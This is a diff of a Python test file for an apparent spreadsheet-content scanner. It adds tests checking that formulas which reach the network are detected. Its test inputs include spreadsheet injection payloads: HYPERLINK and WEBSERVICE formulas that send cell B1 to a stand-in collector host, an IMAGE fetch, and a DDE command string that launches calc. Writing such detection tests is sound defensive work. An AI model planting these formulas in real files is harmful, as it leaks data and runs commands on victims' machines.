@@ -311,8 +311,34 @@ def test_a_formula_of_a_sheet_is_one_although_the_file_leaves_its_first_sign_out
     data = archive({"xl/worksheets/sheet1.xml": sheet(f"<row>{formula}</row>")})
     assert read(data)[0] == [('=HYPERLINK("https://collector.example/?q="&B1,"open")open', Channel.VISIBLE)]
     assert "formula" in scan_inbound(data).codes
-    sums = archive({"xl/worksheets/sheet1.xml": sheet('<row><c r="A1"><f>SUM(B1:B9)</f><v>4</v></c></row>')})
-    assert "formula" not in scan_inbound(sums).codes
+
+
+def formula_cell(formula: str) -> bytes:
+    cells = f"<row><c r='A1'><f>{formula}</f><v>4</v></c></row>"
+    return archive({"xl/worksheets/sheet1.xml": sheet(cells)})
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        'IF(B1,"",HYPERLINK("https://collector.example/"&amp;B1))',
+        '_xlfn.WEBSERVICE("https://collector.example")',
+        'SUM(1)+image ("https://collector.example/a.png")',
+        "cmd|'/c calc'!A1",
+    ],
+)
+def test_what_reaches_out_is_found_anywhere_in_a_formula(formula: str) -> None:
+    assert "formula" in scan_inbound(formula_cell(formula)).codes
+
+
+@pytest.mark.parametrize("formula", ["SUM(B1:B9)", "RECALL(1)", "A1&amp;B1", "1|2"])
+def test_other_formulas_are_plain(formula: str) -> None:
+    assert "formula" not in scan_inbound(formula_cell(formula)).codes
+
+
+@pytest.mark.parametrize("text", ["+HYPERLINK(1)", "the function HYPERLINK(1) opens a page"])
+def test_the_text_of_a_cell_is_no_formula(text: str) -> None:
+    assert "formula" not in scan_inbound(archive({"xl/worksheets/sheet1.xml": sheet(f"<row>{cell(text)}</row>")})).codes
 
 
 @pytest.mark.parametrize("name", ["xl/worksheets/_rels/sheet1.xml.rels", "word/_rels/document.xml.rels", "_rels/.rels"])
